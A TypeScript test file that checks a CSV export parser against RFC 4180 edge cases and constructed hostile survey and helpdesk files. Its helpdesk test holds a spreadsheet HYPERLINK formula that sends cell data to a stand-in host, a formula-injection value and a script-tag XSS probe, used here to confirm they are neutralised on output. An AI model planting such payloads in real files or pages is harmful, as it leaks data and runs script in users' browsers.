/**
 * The file source against third-party and constructed corpora in ../shared/corpora (read in
 * place, never copied): csv-spectrum's RFC 4180 edge cases with their expected rows, and the
 * constructed-hostile survey and helpdesk CSVs with the criteria in `_expectations.json`.
 */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { toCsvField } from "../../../src/core/csv.js";
import { decodeExport, parseExport, toFileMention } from "../../../src/sources/file/parse.js";

const corpora = resolve(import.meta.dirname, "../../../../shared/corpora");
const spectrum = join(corpora, "csv-spectrum");
const hostile = join(corpora, "constructed-hostile");

/**
 * csv-spectrum's location_coordinates.json expects phone "1234567890" while the CSV says
 * "2095257564", and is an object rather than an array: an upstream slip, not a parser miss.
 */
const UPSTREAM_ERRATA: Readonly<Record<string, readonly string[]>> = { location_coordinates: ["Contact Phone Number"] };

describe.skipIf(!existsSync(spectrum))("csv-spectrum corpus", () => {
  const names = existsSync(spectrum) ? readdirSync(join(spectrum, "csvs")).map((f) => f.replace(/\.csv$/u, "")) : [];

  it.each(names)("%s: rows match the expected JSON", (name) => {
    const expectedJson = JSON.parse(readFileSync(join(spectrum, "json", `${name}.json`), "utf8")) as Record<string, string> | Array<Record<string, string>>;
    const expected = Array.isArray(expectedJson) ? expectedJson : [expectedJson];
    const text = decodeExport(readFileSync(join(spectrum, "csvs", `${name}.csv`)), "auto");
    const firstColumn = Object.keys(expected[0]!)[0]!;
    const { rows, itemErrors } = parseExport(text, "csv", { text: firstColumn }, `file ${name}.csv`);
    expect(itemErrors).toEqual([]);
    expect(rows).toHaveLength(expected.length);
    const errata = UPSTREAM_ERRATA[name] ?? [];
    rows.forEach((row, i) => {
      const want = Object.fromEntries(Object.entries(expected[i]!).filter(([k]) => !errata.includes(k)));
      const got = Object.fromEntries(Object.entries(row.values).filter(([k]) => !errata.includes(k)));
      expect(got).toEqual(want);
    });
  });
});

describe.skipIf(!existsSync(hostile))("constructed-hostile CSVs", () => {
  it("csv-bom-crlf-invalid-utf8.csv: BOM stripped, 6 rows, bad NPS scores refused not coerced", () => {
    const text = decodeExport(readFileSync(join(hostile, "encoding/csv-bom-crlf-invalid-utf8.csv")), "auto");
    const config = { columns: { id: "respondent_id", text: "comment", date: "submitted_at", rating: "nps_score" }, ratingScale: 10 as const, channel: "survey" as const };
    const source = "file csv-bom-crlf-invalid-utf8.csv";
    const { rows, itemErrors } = parseExport(text, "csv", config.columns, source);
    expect(itemErrors).toEqual([]);
    expect(rows).toHaveLength(6);
    const results = rows.map((row) => {
      try {
        return toFileMention(row, { config, source }).mention;
      } catch (error) {
        return error as Error;
      }
    });
    const [great, crashes, multiline, noScore, eleven, seven] = results;
    expect(great).toMatchObject({ externalId: "1", rating: 9, ratingScale: 10, text: "Great app, fast" });
    // Invalid bytes become U+FFFD: the BOM says UTF-8, so the rest of the row is kept.
    expect(crashes).toMatchObject({ rating: 3, text: "Crashes on login \uFFFD\uFFFD" });
    expect(multiline).toMatchObject({ rating: 10, text: 'Multi\r\nline "quoted" comment' });
    expect(noScore).not.toBeInstanceOf(Error);
    expect(noScore).not.toHaveProperty("rating");
    expect((eleven as Error).message).toMatch(/cannot parse row 5: score "11"/u);
    expect((seven as Error).message).toMatch(/cannot parse row 6: score "seven"/u);
  });

  it("helpdesk-tickets-formula-and-script-injection.csv: 20 tickets stored verbatim, neutralised only on CSV output", () => {
    const text = decodeExport(readFileSync(join(hostile, "xss/helpdesk-tickets-formula-and-script-injection.csv")), "auto");
    const config = { columns: { id: "ticket_id", text: "body", title: "subject", author: "customer", date: "created_at", rating: "csat" }, ratingScale: 5 as const, channel: "support" as const };
    const { rows, itemErrors } = parseExport(text, "csv", config.columns, "file helpdesk.csv");
    expect(itemErrors).toEqual([]);
    const mentions = rows.map((row) => toFileMention(row, { config, source: "file helpdesk.csv" }).mention);
    expect(mentions).toHaveLength(20);
    expect(mentions[0]!.text).toBe('=HYPERLINK("http://example.invalid?x="&A1,"click")');
    expect(mentions[6]!.text).toBe("\t=1+2");
    expect(mentions[8]!.text).toBe("<script>alert(123)</script>");
    expect(mentions.every((m, i) => m.text === rows[i]!.values.body)).toBe(true);
    // The CSV writers (core/csv.ts) are where formulas are defused.
    expect(toCsvField(mentions[0]!.text)).toBe(`"'=HYPERLINK(""http://example.invalid?x=""&A1,""click"")"`);
  });
});
